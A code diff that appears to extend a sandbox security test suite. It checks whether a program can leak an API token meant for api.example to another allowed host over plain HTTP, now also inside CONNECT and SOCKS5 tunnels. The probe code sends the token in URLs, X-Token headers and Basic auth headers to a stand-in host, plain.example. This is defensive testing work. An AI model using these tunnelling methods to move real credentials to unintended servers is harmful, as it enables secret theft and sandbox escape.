@@ -4,7 +4,8 @@ The program holds an API token meant for one host, api.example (with porta:
 `--secret TOKEN@api.example`), and tries to get it somewhere else: another
 allowed host over HTTPS that the sandbox terminates (87), a name (a DNS
 question, a CONNECT or SOCKS target, a TLS SNI, a Host header or a proxy
-request's URL: 88), another allowed host over plain HTTP (89).
+request's URL: 88), another allowed host over plain HTTP, sent straight,
+through the HTTP proxy, or inside a CONNECT or SOCKS5 tunnel (89).
 
 What counts.  The escape is the token arriving at a server it is not meant
 for: the real value, or the value the program holds, found (case-blind,
@@ -67,7 +68,10 @@ VAR, OTHER_VAR = "TOKEN", "OTHER_TOKEN"
 # allowed value, then with the token the program holds.  "via": "proxy" takes
 # the sandbox's announced proxy (HTTPS_PROXY, HTTP_PROXY, ALL_PROXY, with
 # the credentials in its URL, as srt needs) and goes straight to the target
-# when none is announced (the control); "direct" never uses a proxy.
+# when none is announced (the control); "direct" never uses a proxy; for a
+# plain "http" step, "connect" and "socks" open a tunnel through HTTPS_PROXY
+# (CONNECT) or ALL_PROXY (SOCKS5) and send the request inside it, straight
+# to the target when that proxy is not announced.
 PROBE = r'''
 import base64, json, os, socket, sys
 print("PROBE-STARTED", flush=True)
@@ -138,9 +142,15 @@ def run(step, t):
         return {"status": https_get(s, fill(step.get("sni", step["host"]), t), step, t)}
     if op == "http":
         step = dict(step, host=fill(step["host"], t))
-        if step.get("via") == "proxy" and announced("HTTP_PROXY"):
+        via = step.get("via")
+        if via == "proxy" and announced("HTTP_PROXY"):
             s = np["connect"](*np["proxy_addr"]("HTTP_PROXY"))
             s.sendall(head(step, t, absolute=True, auth=np["proxy_auth"]("HTTP_PROXY")))
+        elif via in ("connect", "socks"):
+            # plain HTTP inside a tunnel the proxy opened to an allowed host
+            s = (tunnel if via == "connect" else socks)(step["host"], port) \
+                or np["connect"](step.get("addr", step["host"]), port)
+            s.sendall(head(step, t))
         else:
             s = np["connect"](step.get("addr", step["host"]), port)
             s.sendall(head(step, t))
@@ -350,7 +360,8 @@ def row89(ctx):
             ("in a header (X-Token)", {"headers": [("X-Token", "{T}")]}),
             ("in an Authorization: Basic header", {"headers": [("Authorization", "Basic {B}")]})]
     specs = []
-    for via, how in (("direct", "transparent"), ("proxy", "through the HTTP proxy")):
+    for via, how in (("direct", "transparent"), ("proxy", "through the HTTP proxy"),
+                     ("connect", "inside a CONNECT tunnel"), ("socks", "inside a SOCKS5 tunnel")):
         for what, extra in ways:
             step = dict({"op": "http", "host": "plain.example", "port": 80, "via": via}, **extra)
             specs.append((f"{what}, {how}", pol, [step]))
